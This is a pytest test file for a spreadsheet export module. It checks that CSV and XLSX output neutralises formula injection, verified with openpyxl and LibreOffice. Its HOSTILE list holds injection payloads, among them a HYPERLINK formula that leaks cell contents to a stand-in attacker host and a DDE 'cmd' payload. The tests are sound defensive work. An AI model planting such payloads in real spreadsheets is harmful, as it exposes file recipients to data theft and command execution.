"""The one rule against formula injection, read back by openpyxl and by LibreOffice itself."""

import csv
import io
import shutil
import subprocess
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from imar.core.sheet_output import (
    FORMULA_PREFIXES,
    MONEY_FORMAT,
    Column,
    Sheet,
    csv_bytes,
    csv_cell,
    is_formula_like,
    xlsx_bytes,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",  # full-width equals sign
]
SAFE = ["plain text", "إعادة إعمار", " =not at start", "1-2", "a=b"]


def test_every_dangerous_prefix_is_covered():
    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert prefix in FORMULA_PREFIXES
        assert is_formula_like(prefix + "1")
    assert not any(is_formula_like(text) for text in SAFE)
    assert not is_formula_like(-5) and not is_formula_like(Decimal("-1.5"))


def test_csv_cells_get_the_text_mark_and_numbers_stay_numbers():
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell(-5) == -5
    assert csv_cell(None) == ""
    assert csv_cell("plain") == "plain"


def _csv_rows(header, rows):
    text = b"".join(csv_bytes(header, rows)).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_csv_file_neutralises_every_hostile_cell_and_keeps_the_rest():
    rows = _csv_rows(["=h", "n"], [[text, -5] for text in HOSTILE + SAFE])
    assert rows[0] == ["'=h", "n"]
    for (cell, number), text in zip(rows[1:], HOSTILE + SAFE, strict=True):
        assert number == "-5"
        if text in HOSTILE:
            assert cell == "'" + text
        else:
            assert cell == text


def _workbook(rows, **options) -> bytes:
    columns = [Column("text"), Column("amount", number_format=MONEY_FORMAT), Column("day")]
    return b"".join(xlsx_bytes([Sheet("data", columns, rows, **options)]))


def test_xlsx_writes_hostile_text_as_string_cells_and_numbers_as_numbers():
    data = _workbook([[text, Decimal("-12.50"), date(2026, 1, 2)] for text in HOSTILE + SAFE])
    sheet = load_workbook(io.BytesIO(data))["data"]
    for row, text in zip(sheet.iter_rows(min_row=2), HOSTILE + SAFE, strict=True):
        cell, amount, day = row
        assert cell.data_type == "s", text
        assert cell.value == text
        assert amount.data_type == "n" and amount.value == -12.5
        assert amount.number_format == MONEY_FORMAT
        assert day.is_date and day.value.date() == date(2026, 1, 2)
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere


def test_xlsx_sheet_layout_frozen_header_filter_widths_rtl():
    data = _workbook([["a", 1, None], ["b", 2, None]], right_to_left=True)
    sheet = load_workbook(io.BytesIO(data))["data"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:C3"
    assert sheet.sheet_view.rightToLeft is True
    assert sheet.column_dimensions["A"].width == 14
    left = load_workbook(io.BytesIO(_workbook([["a", 1, None]])))["data"]
    assert not left.sheet_view.rightToLeft


def test_xlsx_drops_characters_xml_cannot_carry():
    data = _workbook([["bad\x01text\x1f", 1, None]])
    assert load_workbook(io.BytesIO(data))["data"]["A2"].value == "badtext"


LIBREOFFICE = shutil.which("libreoffice") or shutil.which("soffice")


def _libreoffice_xlsx(tmp_path, name: str, data: bytes):
    """The workbook LibreOffice makes of this file (opened, then saved again as XLSX)."""
    source = tmp_path / name
    source.write_bytes(data)
    out = tmp_path / f"out-{name.replace('.', '-')}"
    command = [LIBREOFFICE, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile"]
    if name.endswith(".csv"):
        command.append("--infilter=CSV:44,34,76,1")
    command += ["--convert-to", "xlsx", "--outdir", str(out), str(source)]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    return load_workbook(out / (source.stem + ".xlsx")).active


@pytest.mark.skipif(LIBREOFFICE is None, reason="LibreOffice is not installed here")
def test_libreoffice_reads_hostile_cells_as_text(tmp_path):
    """The program a reader opens the files with: no cell becomes a formula. The raw CSV
    (no text mark) shows the check can fail: LibreOffice turns it into formulas."""
    raw = "text\n" + "".join(f'"{t.replace(chr(34), chr(34) * 2)}"\n' for t in HOSTILE[:1])
    formulas = _libreoffice_xlsx(tmp_path, "raw.csv", raw.encode())
    assert formulas["A2"].data_type == "f"  # the HYPERLINK of the issue, live

    flat = _libreoffice_xlsx(
        tmp_path, "flat.csv", b"".join(csv_bytes(["text"], [[t] for t in HOSTILE]))
    )
    cells = list(flat["A"])[1:]
    assert len(cells) == len(HOSTILE)
    assert all(cell.data_type == "s" for cell in cells), [(c.value, c.data_type) for c in cells]
    assert "evil.example" in cells[0].value

    book = _libreoffice_xlsx(
        tmp_path, "book.xlsx", _workbook([[t, Decimal("-12.50"), None] for t in HOSTILE])
    )
    rows = list(book.iter_rows(min_row=2))
    assert [row[0].value for row in rows] == [t.replace("\r", "\n") for t in HOSTILE] or [
        row[0].value for row in rows
    ] == HOSTILE
    assert all(row[0].data_type == "s" for row in rows)
    assert all(row[1].data_type == "n" and row[1].value == -12.5 for row in rows)


def test_text_subclasses_are_neutralised_too():
    from django.utils.safestring import mark_safe

    rows = _csv_rows(["t"], [[mark_safe("=1+1")]])
    assert rows[1] == ["'=1+1"]
    sheet = load_workbook(io.BytesIO(_workbook([[mark_safe("=1+1"), 1, None]])))["data"]
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "=1+1"
